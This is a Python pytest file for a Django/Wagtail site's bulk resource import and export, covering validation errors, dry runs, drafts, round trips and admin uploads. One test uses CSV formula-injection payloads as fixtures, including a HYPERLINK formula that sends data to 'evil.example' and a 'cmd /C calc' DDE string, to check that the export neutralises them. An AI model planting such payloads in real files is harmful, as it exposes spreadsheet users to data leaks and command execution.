"""Bulk import and export: validation with line numbers, all-or-nothing, dry run, drafts,
idempotence, round trip, files, and the admin upload with its error preview."""

import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from content import importing
from content.demo.resources import demo_pdf_bytes
from content.models import RESOURCE_TYPES, EBookPage, EmployerProfilePage, ResearchPage

from .factories import page_count_under

pytestmark = pytest.mark.django_db

EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "resources.jsonl"


def _record(n: int, **extra) -> dict:
    record = {
        "external_id": f"imp-{n}",
        "type": "research",
        "title": f"งานวิจัยนำเข้า {n}",
        "summary": "สรุป",
        "field": "F64-11",
        "year": 2024,
        "keywords": ["หุ่นยนต์", "PLC"],
        "industries": ["robotics"],
        "levels": ["hvc"],
        "authors": ["นายสมชาย ใจดี"],
    }
    record.update(extra)
    return record


def _write_jsonl(path: Path, records: list) -> Path:
    path.write_text(
        "".join(
            (r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) + "\n" for r in records
        ),
        encoding="utf-8",
    )
    return path


def _run(*args) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_resources", *args, stdout=out, stderr=err)
        code = 0
    except SystemExit as exit_:
        code = exit_.code
    return code, out.getvalue(), err.getvalue()


def test_example_file_imports_and_reimport_changes_nothing():
    before = page_count_under("F64-11")
    code, out, _err = _run(str(EXAMPLE))
    assert code == 0, out
    assert "5 created" in out
    assert page_count_under("F64-11") == before + 3
    research = ResearchPage.objects.get(external_id="f64-11-research-001")
    assert research.live and research.year == 2024
    assert sorted(t.name for t in research.keywords.all()) == ["machine vision", "หุ่นยนต์"]
    assert research.language_codes == ["th"]
    assert research.latest_revision is not None and research.live_revision is not None
    employer = EmployerProfilePage.objects.get(external_id="f64-06-employer-001")
    assert employer.manpower_demands.get().headcount == 8
    code, out, _err = _run(str(EXAMPLE))
    assert "0 created, 0 updated, 5 unchanged" in out


def test_tree_stays_valid_after_a_bulk_import(tmp_path):
    from wagtail.models import Page

    _write_jsonl(
        tmp_path / "many.jsonl", [_record(n, field=["F64-11", "F66-17"][n % 2]) for n in range(30)]
    )
    assert _run(str(tmp_path / "many.jsonl"))[0] == 0
    problems = Page.find_problems()
    assert all(not group for group in problems), problems
    # A page added through Wagtail afterwards lands after the imported ones.
    bank = Page.objects.get(slug="f64-11")
    child = bank.add_child(
        instance=ResearchPage(title="หลังนำเข้า", home_field_id=bank.specific.field_id)
    )
    assert child.path > max(bank.get_children().exclude(pk=child.pk).values_list("path", flat=True))


BAD_CASES = [
    ({"type": "poster"}, "Unknown type"),
    ({"field": "F99-99"}, "Unknown field code F99-99"),
    ({"title": ""}, "title is required"),
    ({"external_id": "has space"}, "external_id may use only"),
    ({"year": 2567}, "Buddhist-era"),
    ({"year": "soon"}, "year must be a number"),
    ({"licence": "gpl"}, "Unknown licence"),
    ({"language": ["fr"]}, "Unknown language"),
    ({"industries": ["mining"]}, "Unknown code mining in industries"),
    ({"levels": ["phd"]}, "Unknown code phd in levels"),
    ({"url": "ftp://x"}, "url is not a valid"),
    ({"file": "missing.pdf"}, "file not found"),
    ({"colour": "red"}, "Unknown column"),
    ({"details": {"isbn": "1"}}, "Unknown details for research"),
    ({"type": "simulator", "details": {"is_graded": True}}, "graded simulator"),
    ({"type": "employer", "demand": [{"year": 2025}]}, "demand row 1"),
    ({"type": "expert", "details": {"expert_kind": "wizard"}}, "details.expert_kind"),
    ({"keywords": {"a": 1}}, "keywords must be a list"),
]


@pytest.mark.parametrize(("change", "message"), BAD_CASES)
def test_each_bad_record_is_reported_with_its_line_and_nothing_is_imported(
    tmp_path, change, message
):
    records = [_record(1), _record(2, **change), _record(3)]
    path = _write_jsonl(tmp_path / "bad.jsonl", records)
    code, _out, err = _run(str(path))
    assert code == 1
    assert "line 2" in err and message in err, err
    assert "nothing imported" in err and "ไม่นำเข้าข้อมูลใดเลย" in err
    assert not ResearchPage.objects.filter(external_id__startswith="imp-").exists()


def test_every_error_is_listed_bilingually(tmp_path):
    path = _write_jsonl(
        tmp_path / "bad.jsonl",
        [_record(1, field="F00-00"), "{not json", _record(3), _record(1), '["a list"]'],
    )
    report = importing.resources_import_file(path=path)
    assert [e.line for e in report.errors] == [1, 2, 4, 5]
    first = report.errors[0].message
    assert "ไม่รู้จักรหัสสาขาวิชา" in first and "Unknown field code" in first
    assert "repeated" in report.errors[2].message
    assert not ResearchPage.objects.filter(external_id__startswith="imp-").exists()


def test_existing_id_of_another_type_or_field_is_refused(tmp_path):
    _run(str(_write_jsonl(tmp_path / "a.jsonl", [_record(1)])))
    report = importing.resources_import_file(
        path=_write_jsonl(
            tmp_path / "b.jsonl",
            [
                _record(1, type="ebook"),
            ],
        )
    )
    assert "already belongs to a research" in report.errors[0].message
    report = importing.resources_import_file(
        path=_write_jsonl(tmp_path / "c.jsonl", [_record(1, field="F66-17")])
    )
    assert "another field" in report.errors[0].message


def test_dry_run_only_validates(tmp_path):
    code, out, _err = _run(str(_write_jsonl(tmp_path / "a.jsonl", [_record(1)])), "--dry-run")
    assert code == 0 and "1 records valid (dry run)" in out
    assert not ResearchPage.objects.filter(external_id="imp-1").exists()


def test_draft_import_and_later_update(tmp_path):
    path = _write_jsonl(tmp_path / "a.jsonl", [_record(1)])
    _run(str(path), "--draft")
    page = ResearchPage.objects.get(external_id="imp-1")
    assert not page.live and page.has_unpublished_changes
    # Publishing import of a changed record: a new revision, published.
    _write_jsonl(path, [_record(1, title="ชื่อใหม่", keywords=["ใหม่"])])
    code, out, _err = _run(str(path))
    assert "1 updated" in out
    page.refresh_from_db()
    assert page.live and page.title == "ชื่อใหม่"
    assert [t.name for t in page.keywords.all()] == ["ใหม่"]
    assert page.revisions.count() == 2


def test_files_are_attached_once(tmp_path):
    (tmp_path / "book.pdf").write_bytes(demo_pdf_bytes("Book"))
    path = _write_jsonl(tmp_path / "a.jsonl", [_record(1, type="ebook", file="book.pdf")])
    _run(str(path))
    book = EBookPage.objects.get(external_id="imp-1").book
    assert book is not None and book.file_hash
    _run(str(path))
    assert EBookPage.objects.get(external_id="imp-1").book_id == book.pk
    report = importing.resources_import_file(
        path=_write_jsonl(tmp_path / "b.jsonl", [_record(2, file="book.pdf", type="expert")])
    )
    assert "cannot carry a file" in report.errors[0].message


def test_csv_import_and_round_trip(tmp_path):
    _run(str(EXAMPLE))
    exported = tmp_path / "out.csv"
    call_command("export_resources", "-o", str(exported), "--field", "F64-11", stderr=io.StringIO())
    rows = exported.read_text(encoding="utf-8")
    assert rows.startswith("external_id,type,title")
    assert "หุ่นยนต์|machine vision" in rows or "machine vision|หุ่นยนต์" in rows
    # Importing the export changes nothing; the export of a fresh import is the same file.
    code, out, _err = _run(str(exported))
    assert code == 0 and "3 unchanged" in out
    again = tmp_path / "again.csv"
    call_command("export_resources", "-o", str(again), "--field", "F64-11", stderr=io.StringIO())
    assert again.read_text(encoding="utf-8") == rows


def test_jsonl_round_trip_recreates_every_type(tmp_path):
    records = [
        _record(
            n,
            type=key,
            title=f"{key} {n}",
            keywords=[f"k{n}"],
            language=["th", "en"],
            fields=["F66-17"],
            **(
                {"demand": [{"year": 2025, "position": "ช่าง", "headcount": 3, "level": "hvc"}]}
                if key == "employer"
                else {}
            ),
        )
        for n, key in enumerate(RESOURCE_TYPES)
    ]
    _run(str(_write_jsonl(tmp_path / "in.jsonl", records)))
    out = io.StringIO()
    call_command("export_resources", "--field", "F64-11", stdout=out)
    exported = [json.loads(line) for line in out.getvalue().splitlines()]
    by_id = {r["external_id"]: r for r in exported}
    for record in records:
        got = by_id[record["external_id"]]
        for name in (
            "type",
            "title",
            "field",
            "fields",
            "year",
            "authors",
            "keywords",
            "industries",
            "levels",
        ):
            assert got[name] == record[name], (name, got)
        assert sorted(got["language"]) == ["en", "th"]
    assert by_id["imp-6"]["demand"][0]["headcount"] == 3


def test_benchmark_command_runs_and_rolls_back():
    out = io.StringIO()
    call_command("import_resources", "--benchmark", "40", stdout=out)
    assert "40 pages created" in out.getvalue() and "Rolled back" in out.getvalue()
    assert "after commit: page_published signals" in out.getvalue()
    assert "use --keep to time it" in out.getvalue()
    assert not ResearchPage.objects.filter(external_id__startswith="bench-").exists()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_benchmark_with_keep_times_the_site_search_indexing_once(monkeypatch):
    from search import services
    from search.backends import get_backend
    from search.query import SearchQuery, search_run

    get_backend().clear()  # earlier transactional tests may have left documents in the index
    calls = []
    original = services.search_pages_index

    def counting(*, page_ids):
        calls.append(len(page_ids))
        return original(page_ids=page_ids)

    monkeypatch.setattr(services, "search_pages_index", counting)
    out = io.StringIO()
    call_command("import_resources", "--benchmark", "14", "--keep", stdout=out)
    text = out.getvalue()
    assert "14 pages created" in text and "Kept." in text
    assert "after commit: site search (resources_imported): " in text and "(CPU " in text
    # Indexed once, in one task (the benchmark used to notify twice).
    assert calls == [14]
    assert search_run(query=SearchQuery(text="ระบบควบคุมอัตโนมัติ", page_size=20)).count == 14


def _upload(client, records, *, action="import", name="upload.jsonl", draft=False):
    data = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode()
    payload = {"file": SimpleUploadedFile(name, data), "action": action}
    if draft:
        payload["draft"] = "on"
    return client.post("/admin/content/import/", payload)


def test_admin_upload_previews_errors_and_imports(client, make_staff):
    client.force_login(make_staff("head", "F64-11"))
    assert client.get("/admin/content/import/").status_code == 200
    response = _upload(client, [_record(1), _record(2, year=2567)])
    html = response.content.decode()
    assert "Buddhist-era" in html and 'class="import-error"' in html
    assert not ResearchPage.objects.filter(external_id__startswith="imp-").exists()
    response = _upload(client, [_record(1)], action="preview")
    assert not ResearchPage.objects.filter(external_id="imp-1").exists()
    response = _upload(client, [_record(1)])
    assert response.status_code == 200
    assert ResearchPage.objects.get(external_id="imp-1").live


def test_admin_upload_cvm_only_into_their_own_field(client, make_staff):
    client.force_login(make_staff("head", "F64-11"))
    html = _upload(client, [_record(1, field="F66-17")]).content.decode()
    assert "F66-17" in html and 'class="import-error"' in html
    assert not ResearchPage.objects.filter(external_id="imp-1").exists()


def test_admin_upload_by_an_editor_makes_drafts(client, make_staff):
    client.force_login(make_staff("editor", "F64-11 editors"))
    _upload(client, [_record(1)])
    assert not ResearchPage.objects.get(external_id="imp-1").live


def test_admin_upload_refuses_users_without_a_bank_and_bad_files(
    client, make_staff, django_user_model
):
    from django.contrib.auth.models import Permission

    nobody = django_user_model.objects.create_user("nobody", password="x-123456789")
    nobody.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(nobody)
    assert client.get("/admin/content/import/").status_code in (302, 403)
    client.force_login(make_staff("ovec-officer", "OVEC"))
    html = _upload(client, [_record(1)], name="data.xlsx").content.decode()
    assert "Unknown file type" in html
    response = client.post(
        "/admin/content/import/",
        {"file": SimpleUploadedFile("x.jsonl", b"\xff\xfe\x00bad"), "action": "import"},
    )
    assert "UTF-8" in response.content.decode()


def test_a_bad_file_fails_validation_before_any_file_is_stored(tmp_path, settings):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    (tmp_path / "good.pdf").write_bytes(demo_pdf_bytes("Good"))
    (tmp_path / "fake.pdf").write_bytes(b"<html><body>not a PDF</body></html>")
    path = _write_jsonl(
        tmp_path / "mixed.jsonl",
        [_record(1, type="ebook", file="good.pdf"), _record(2, type="ebook", file="fake.pdf")],
    )
    report = importing.resources_import_file(path=path)
    assert [error.line for error in report.errors] == [2]
    assert "PDF" in report.errors[0].message
    assert not EBookPage.objects.filter(external_id__in=["imp-1", "imp-2"]).exists()
    media = tmp_path / "media"
    assert not media.exists() or not [p for p in media.rglob("*") if p.is_file()]


def test_export_csv_neutralises_formula_cells_and_imports_back_unchanged(tmp_path):
    hostile = _record(
        1,
        title='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        keywords=["+ท่อ", "-ลบ"],
        authors=["=1+2"],
    )
    assert _run(str(_write_jsonl(tmp_path / "in.jsonl", [hostile])))[0] == 0
    exported = tmp_path / "out.csv"
    call_command("export_resources", "-o", str(exported), "--field", "F64-11", stderr=io.StringIO())
    import csv

    with exported.open(encoding="utf-8", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["external_id"] == "imp-1")
    for name in ("title", "summary", "keywords", "authors"):
        assert row[name].startswith("'"), (name, row[name])
    # The export still imports back as the same record.
    code, out, _err = _run(str(exported))
    assert code == 0 and "0 created, 0 updated" in out, out
    assert ResearchPage.objects.get(external_id="imp-1").title == hostile["title"]


def test_export_to_a_file_copies_attached_files_so_it_imports_again(tmp_path):
    (tmp_path / "book.pdf").write_bytes(demo_pdf_bytes("Book"))
    _run(str(_write_jsonl(tmp_path / "a.jsonl", [_record(1, type="ebook", file="book.pdf")])))
    exported = tmp_path / "out" / "all.jsonl"
    exported.parent.mkdir()
    call_command("export_resources", "-o", str(exported), "--type", "ebook", stderr=io.StringIO())
    (record,) = [json.loads(line) for line in exported.read_text().splitlines()]
    assert record["file"].startswith("all-files/") and (exported.parent / record["file"]).is_file()
    code, out, _err = _run(str(exported))
    assert code == 0 and "1 unchanged" in out, out
